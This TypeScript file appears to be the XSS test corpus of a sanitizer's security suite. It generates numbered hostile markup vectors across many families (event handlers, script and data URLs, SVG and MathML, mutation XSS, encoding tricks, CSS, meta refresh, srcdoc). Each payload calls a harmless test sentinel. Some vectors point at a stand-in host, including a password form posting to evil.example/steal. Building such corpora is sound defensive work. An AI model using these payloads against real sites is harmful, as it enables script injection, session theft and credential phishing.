/**
 * The XSS corpus of the security suite: hostile markup shapes a feed, an owner's form or an
 * edit may carry. Written for Chorus from the known vector classes (event handlers, script URLs
 * in every URL-bearing attribute, SVG and MathML, mutation XSS, entity and whitespace tricks,
 * CSS expressions, `<base>`, `<meta refresh>`, `srcdoc`, raw-text elements, broken markup), not
 * copied from a published list.
 *
 * Every payload, if a browser ever ran it, calls the sentinel: `window.__xss(n)` in the top
 * page (or `alert(n)` where the top page is out of reach), so a browser test that defines
 * `__xss` and listens for dialogs sees any execution and knows which vector caused it.
 */

/** The family a vector belongs to. */
export type XssVectorClass =
  | 'script'
  | 'event-handler'
  | 'url-attribute'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'entity'
  | 'css'
  | 'base'
  | 'meta-refresh'
  | 'srcdoc'
  | 'embed'
  | 'form'
  | 'raw-text'
  | 'broken-markup';

/** One vector: its id, its family, its number (what its payload reports) and its markup. */
export interface XssVector {
  /** `xss-001` … */
  readonly id: string;
  /** What the payload passes to the sentinel. */
  readonly n: number;
  readonly class: XssVectorClass;
  /** The markup, for HTML and text fields. */
  readonly html: string;
  /** A hostile address of the same family, for URL fields (link, image, author, call to action). */
  readonly url: string;
}

/** The name of the global a browser test defines to record executions. */
export const xssSentinelName = '__xss';

/**
 * The script a payload runs: report to the top page's sentinel, or open a dialog when the top
 * page is out of reach (an opaque-origin frame). No quotes or spaces, so it fits anywhere.
 */
export function sentinelScript(n: number): string {
  return `try{top.${xssSentinelName}(${n})}catch(e){alert(${n})}`;
}

type Shape = readonly [XssVectorClass, (js: string) => string, ((js: string) => string)?];

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** Every character as a decimal reference, zero-padded and without semicolons. */
const decimalNoSemicolon = (text: string) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
/** Every character as a hexadecimal reference. */
const hexEntities = (text: string) =>
  [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const urlEncoded = (text: string) =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

const hostile = 'https://evil.example';

/** Hand-written shapes, one per idea. */
const handWritten: readonly Shape[] = [
  // Script elements, plain and disguised.
  ['script', (js) => `<script>${js}</script>`],
  ['script', (js) => `<SCRIPT>${js}</SCRIPT>`],
  ['script', (js) => `<script type="text/javascript">${js}</script>`],
  ['script', (js) => `<script type="module">${js}</script>`],
  ['script', (js) => `<script src="data:text/javascript,${js}"></script>`],
  ['script', () => `<script src="${hostile}/x.js"></script>`],
  ['script', (js) => `<script\n>${js}</script\n>`],
  ['script', (js) => `<script/x>${js}</script>`],
  ['script', (js) => `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['script', (js) => `<<script>${js};//<</script>`],
  ['script', (js) => `<script>/*</script><script>*/${js}</script>`],
  ['script', (js) => `<div><script>${js}</script>text</div>`],
  // Event handlers on every kind of element.
  ['event-handler', (js) => `<img src=x onerror=${js}>`],
  ['event-handler', (js) => `<img src="https://cdn.example/a.png" width="80" onload="${js}">`],
  ['event-handler', (js) => `<img/src="x"/onerror="${js}">`],
  ['event-handler', (js) => `<img src=x ONERROR=${js}>`],
  ['event-handler', (js) => `<img src=x onerror\n=\n"${js}">`],
  ['event-handler', (js) => `<p onclick="${js}" onmouseover="${js}">hover me</p>`],
  ['event-handler', (js) => `<a href="https://ok.example/" onfocus="${js}" autofocus>x</a>`],
  ['event-handler', (js) => `<body onload="${js}">`],
  ['event-handler', (js) => `<details open ontoggle="${js}"><summary>s</summary></details>`],
  ['event-handler', (js) => `<video src=x onerror="${js}"></video>`],
  ['event-handler', (js) => `<video><source src=x onerror="${js}"></video>`],
  ['event-handler', (js) => `<audio src=x onerror="${js}"></audio>`],
  ['event-handler', (js) => `<input autofocus onfocus="${js}">`],
  ['event-handler', (js) => `<select autofocus onfocus="${js}"></select>`],
  ['event-handler', (js) => `<textarea autofocus onfocus="${js}"></textarea>`],
  ['event-handler', (js) => `<marquee onstart="${js}">m</marquee>`],
  [
    'event-handler',
    (js) => `<div onpointerenter="${js}" style="width:2000px;height:2000px">x</div>`,
  ],
  ['event-handler', (js) => `<span onanimationstart="${js}" style="animation:spin 1s">x</span>`],
  ['event-handler', (js) => `<b ontransitionend="${js}" id=t>x</b>`],
  ['event-handler', (js) => `<iframe onload="${js}"></iframe>`],
  ['event-handler', (js) => `<object data="x" onerror="${js}"></object>`],
  ['event-handler', (js) => `<img src=x oNeRrOr=${js} alt="ok">`],
  ['event-handler', (js) => `<img src=x onerror=${js}//`],
  ['event-handler', (js) => `<h1 onclick="${js}">Heading</h1>`],
  ['event-handler', (js) => `<a href="https://ok.example/" onclick="${js}" title="t">link</a>`],
  ['event-handler', (js) => `<img src="https://cdn.example/a.png" onerror="${js}" width="100">`],
  ['event-handler', (js) => `<form><button onfocus="${js}" autofocus>b</button></form>`],
  ['event-handler', (js) => `<style onload="${js}"></style>`],
  ['event-handler', (js) => `<link rel=stylesheet href=x onerror="${js}">`],
  ['event-handler', (js) => `<body onpageshow="${js}">`],
  [
    'event-handler',
    (js) => `<img src=x onerror="&#x${js.charCodeAt(0).toString(16)};${js.slice(1)}">`,
  ],
  // SVG.
  ['svg', (js) => `<svg onload="${js}"></svg>`],
  ['svg', (js) => `<svg><script>${js}</script></svg>`],
  ['svg', (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`],
  ['svg', (js) => `<svg><a xlink:href="javascript:${js}"><text y="20">svg link</text></a></svg>`],
  ['svg', (js) => `<svg><a href="javascript:${js}"><rect width="50" height="50"/></a></svg>`],
  ['svg', (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`],
  [
    'svg',
    (js) =>
      `<svg><a><animate attributeName="href" values="javascript:${js}"/><text y="20">anim</text></a></svg>`,
  ],
  ['svg', (js) => `<svg><set attributeName="onmouseover" to="${js}"/></svg>`],
  [
    'svg',
    (js) =>
      `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js}"/></svg>`)}#x"/></svg>`,
  ],
  ['svg', (js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`],
  ['svg', (js) => `<svg><image href="x" onerror="${js}"/></svg>`],
  ['svg', (js) => `<svg><style>@import "javascript:${js}";</style></svg>`],
  ['svg', (js) => `<svg><desc><img src=x onerror="${js}"></desc></svg>`],
  ['svg', (js) => `<svg><title><![CDATA[</title><img src=x onerror="${js}">]]></title></svg>`],
  ['svg', (js) => `<svg><p><style><img src=x onerror="${js}"></style></p></svg>`],
  // MathML.
  ['mathml', (js) => `<math href="javascript:${js}">click</math>`],
  [
    'mathml',
    (js) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
  ],
  ['mathml', (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`],
  ['mathml', (js) => `<math><mi xlink:href="data:x,<script>${js}</script>">m</mi></math>`],
  ['mathml', (js) => `<math><mtext><script>${js}</script></mtext></math>`],
  [
    'mathml',
    (js) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  ],
  // Mutation XSS: markup that changes meaning when parsed a second time.
  ['mutation', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`],
  ['mutation', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
  [
    'mutation',
    (js) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js}>"></style></h1>`,
  ],
  [
    'mutation',
    (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  ],
  ['mutation', (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`],
  ['mutation', (js) => `<p title="</p><img src=x onerror=${js}>">para</p>`],
  [
    'mutation',
    (js) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${js}&gt;" href="https://ok.example/">t</a>`,
  ],
  ['mutation', (js) => `<img alt="<x" title="/><img src=x onerror=${js}>">`],
  ['mutation', (js) => `<table><td><style></td><img src=x onerror=${js}></style></table>`],
  [
    'mutation',
    (js) => `<select><template><style><img src=x onerror=${js}></style></template></select>`,
  ],
  ['mutation', (js) => `<iframe><textarea></iframe><img src=x onerror=${js}></textarea>`],
  ['mutation', (js) => `<svg><style><img src=x onerror=${js}></style></svg>`],
  ['mutation', (js) => `<textarea></textarea><img src=x onerror=${js}>`],
  ['mutation', (js) => `<![CDATA[><img src=x onerror=${js}>]]>`],
  ['mutation', (js) => `<!--><img src=x onerror=${js}>-->`],
  ['mutation', (js) => `<!--- -!><img src=x onerror=${js}> -->`],
  ['mutation', (js) => `<? foo="><img src=x onerror=${js}>">`],
  ['mutation', (js) => `<!doctype html><img src=x onerror=${js}>`],
  ['mutation', (js) => `</title><img src=x onerror=${js}>`],
  // Entity, encoding and whitespace tricks.
  ['entity', (js) => `&lt;img src=x onerror=${js}&gt;`],
  ['entity', (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`],
  ['entity', (js) => `<a href="${decimalNoSemicolon(`javascript:${js}`)}">decimal</a>`],
  ['entity', (js) => `<a href="${hexEntities(`javascript:${js}`)}">hex</a>`],
  ['entity', (js) => `<a href="javascript&colon;${js}">colon</a>`],
  ['entity', (js) => `<a href="java&Tab;script:${js}">tab</a>`],
  ['entity', (js) => `<a href="java&NewLine;script:${js}">newline</a>`],
  ['entity', (js) => `<a href="&#0000106avascript:${js}">padded</a>`],
  ['entity', (js) => `<a href="javascript:${urlEncoded(js)}">percent</a>`],
  ['entity', (js) => `<a href="&#x20;&#x01;javascript:${js}">leading controls</a>`],
  ['entity', (js) => `<img src=x on&#101;rror=${js}>`],
  ['entity', (js) => `<img src="x" onerror="${hexEntities(js)}">`],
  ['entity', (js) => `<a href="\u2028javascript:${js}">line separator</a>`],
  ['entity', (js) => `<a href="javascript\u0000:${js}">nul</a>`],
  ['entity', (js) => `\u003cimg src=x onerror=${js}\u003e`],
  ['entity', (js) => `<img src=x onerror="\\u0061lert(1);${js}">`],
  ['entity', (js) => `＜script＞${js}＜/script＞`],
  // CSS: expressions, bindings, script URLs, imports.
  ['css', (js) => `<div style="width:expression(${js})">expr</div>`],
  ['css', (js) => `<p style="background-image:url(javascript:${js})">bg</p>`],
  ['css', (js) => `<p style="background:url(&quot;javascript:${js}&quot;)">quoted</p>`],
  ['css', () => `<p style="behavior:url(${hostile}/x.htc)">behavior</p>`],
  ['css', () => `<p style="-moz-binding:url(${hostile}/x.xml#xss)">binding</p>`],
  ['css', (js) => `<style>@import "javascript:${js}";</style>`],
  ['css', (js) => `<style>body{background:url("javascript:${js}")}</style>`],
  ['css', (js) => `<style>*{x:expression(${js})}</style>`],
  ['css', () => `<link rel="stylesheet" href="${hostile}/x.css">`],
  ['css', (js) => `<div style="w&#x69;dth:exp/**/ression(${js})">comment</div>`],
  ['css', (js) => `<div style="width:\\65 xpression(${js})">escape</div>`],
  ['css', () => `<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div>`],
  ['css', (js) => `<span style="x:\\0075rl(javascript:${js})">url escape</span>`],
  // <base> and <meta>.
  ['base', (js) => `<base href="javascript:${js}//"><a href="relative">rel</a>`],
  ['base', () => `<base href="${hostile}/"><a href="page">rel</a>`],
  ['base', () => `<base target="_top">`],
  ['meta-refresh', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['meta-refresh', () => `<meta http-equiv="refresh" content="0; url=${hostile}/">`],
  [
    'meta-refresh',
    (js) =>
      `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
  ],
  ['meta-refresh', () => `<meta http-equiv="Content-Security-Policy" content="script-src *">`],
  ['meta-refresh', () => `<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`],
  // srcdoc.
  ['srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['srcdoc', (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`],
  [
    'srcdoc',
    (js) =>
      `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>${js}</script>"></iframe>`,
  ],
  ['srcdoc', (js) => `<iframe SRCDOC="${hexEntities(`<script>${js}</script>`)}"></iframe>`],
  // Embeds and frames.
  ['embed', () => `<iframe src="${hostile}/embed/x"></iframe>`],
  ['embed', () => `<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>`],
  ['embed', () => `<iframe src="http://www.youtube.com/embed/abc"></iframe>`],
  [
    'embed',
    () =>
      `<iframe src="https://www.youtube.com/embed/abc" sandbox="allow-top-navigation allow-scripts allow-same-origin allow-modals"></iframe>`,
  ],
  ['embed', () => `<iframe src="https://user@www.youtube.com/embed/abc"></iframe>`],
  ['embed', (js) => `<frameset><frame src="javascript:${js}"></frameset>`],
  [
    'embed',
    (js) => `<object type="text/html" data="data:text/html,<script>${js}</script>"></object>`,
  ],
  ['embed', (js) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${js}'/>">`],
  ['embed', () => `<applet code="X.class" codebase="${hostile}/"></applet>`],
  ['embed', () => `<portal src="${hostile}/"></portal>`],
  // Forms: submissions and clickjacking inputs.
  [
    'form',
    () =>
      `<form action="${hostile}/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
  ],
  ['form', (js) => `<form><button formaction="javascript:${js}">go</button></form>`],
  ['form', (js) => `<input type="image" src="x" onerror="${js}">`],
  ['form', (js) => `<isindex action="javascript:${js}" type="image">`],
  ['form', () => `<form id="f"></form><button form="f" formaction="${hostile}/">outside</button>`],
  // Raw-text and ignored elements that hide markup from a naive parser.
  ['raw-text', (js) => `<textarea><script>${js}</script></textarea>`],
  ['raw-text', (js) => `<title><img src=x onerror=${js}></title>`],
  ['raw-text', (js) => `<xmp><img src=x onerror=${js}></xmp>`],
  ['raw-text', (js) => `<noembed><img src=x onerror=${js}></noembed>`],
  ['raw-text', (js) => `<noframes><img src=x onerror=${js}></noframes>`],
  ['raw-text', (js) => `<template><img src=x onerror=${js}></template>`],
  ['raw-text', (js) => `<plaintext><img src=x onerror=${js}>`],
  ['raw-text', (js) => `<iframe><img src=x onerror=${js}></iframe>`],
  ['raw-text', (js) => `<option><img src=x onerror=${js}></option>`],
  // Broken markup.
  ['broken-markup', (js) => `<p>unclosed <a href="https://ok.example/" onmouseover=${js}`],
  ['broken-markup', (js) => `<img """><script>${js}</script>">`],
  ['broken-markup', (js) => `<a href="https://ok.example/"<img src=x onerror=${js}>>x</a>`],
  ['broken-markup', (js) => `<img src="x` + `" onerror="${js}"`],
  ['broken-markup', (js) => `<img src=x onerror=${js} <b>bold</b>`],
  ['broken-markup', (js) => `<p title='x' onclick=${js} data-x=y class=evil id=evil>attrs</p>`],
  ['broken-markup', (js) => `<</p>img src=x onerror=${js}>`],
  ['broken-markup', (js) => `<img src=x onerror=${js}\u0000>`],
  ['broken-markup', (js) => `<a href=https://ok.example/ onclick=${js}>unquoted`],
  ['broken-markup', (js) => `<svg/onload=${js}>`],
  ['broken-markup', (js) => `<img src=x:x onerror=${js}//`],
  ['broken-markup', (js) => `</script><script>${js}</script>`],
  ['broken-markup', (js) => `"><script>${js}</script>`],
  ['broken-markup', (js) => `'><img src=x onerror=${js}>`],
];

/** A URL-bearing place in markup: which tag and attribute, built around a URL. */
const urlPlaces: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href="https://ok.example/" ping="${url}">ping</a>`,
  (url) => `<img src="${url}" width="40" height="40">`,
  (url) => `<img src="https://cdn.example/a.png" srcset="${url} 1x">`,
  (url) =>
    `<img src="https://cdn.example/a.png" lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<form action="${url}"><button>submit</button></form>`,
  (url) => `<form><input type="submit" formaction="${url}" value="submit"></form>`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<audio><source src="${url}"><track src="${url}"></audio>`,
  (url) => `<link rel="preload" href="${url}">`,
  (url) => `<blockquote cite="${url}">quote</blockquote>`,
  (url) => `<q cite="${url}">q</q><del cite="${url}">d</del><ins cite="${url}">i</ins>`,
  (url) => `<table background="${url}"><tr><td background="${url}">cell</td></tr></table>`,
  (url) =>
    `<img src="https://cdn.example/a.png" usemap="#m"><map name="m"><area href="${url}" shape="rect" coords="0,0,50,50"></map>`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">xlink</text></a></svg>`,
  (url) => `<math><mi href="${url}">math link</mi></math>`,
  (url) => `<button formaction="${url}">b</button>`,
  (url) => `<html manifest="${url}"><body background="${url}">`,
  (url) => `<object codebase="${url}" data="x.swf"></object>`,
  (url) => `<a href="${url}" target="_self">self</a>`,
  (url) => `<img src="${url}" alt="x" width="100" height="100">`,
  (url) =>
    `<iframe src="https://www.youtube.com/embed/abc" data-src="${url}" longdesc="${url}"></iframe>`,
];

/** Ways to write a script URL; places take them in turn so every disguise meets many places. */
const scriptUrls: readonly ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `jav&#x0A;ascript:${js}`,
  (js) => `vbscript:${js}`,
];

/** Data URLs that carry a document or an SVG with script. */
const dataUrls: readonly ((js: string) => string)[] = [
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`,
  (js) =>
    `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}`,
  (js) => `DATA:text/html;charset=utf-8,%3Cscript%3E${urlEncoded(js)}%3C/script%3E`,
];

const urlShapes: readonly Shape[] = urlPlaces.flatMap((place, index): Shape[] => {
  const scriptUrl = scriptUrls[index % scriptUrls.length]!;
  const dataUrl = dataUrls[index % dataUrls.length]!;
  return [
    ['url-attribute', (js) => place(scriptUrl(js)), scriptUrl],
    ['url-attribute', (js) => place(dataUrl(js)), dataUrl],
  ];
});

const anyUrls = [...scriptUrls, ...dataUrls];

/**
 * The whole corpus, numbered from 1. A vector whose markup carries no URL of its own gets the
 * script and data URLs in turn for URL fields.
 */
export const xssCorpus: readonly XssVector[] = [...handWritten, ...urlShapes].map(
  ([vectorClass, build, url], index) => {
    const n = index + 1;
    const js = sentinelScript(n);
    return {
      id: `xss-${String(n).padStart(3, '0')}`,
      n,
      class: vectorClass,
      html: build(js),
      url: (url ?? anyUrls[index % anyUrls.length]!)(js),
    };
  },
);
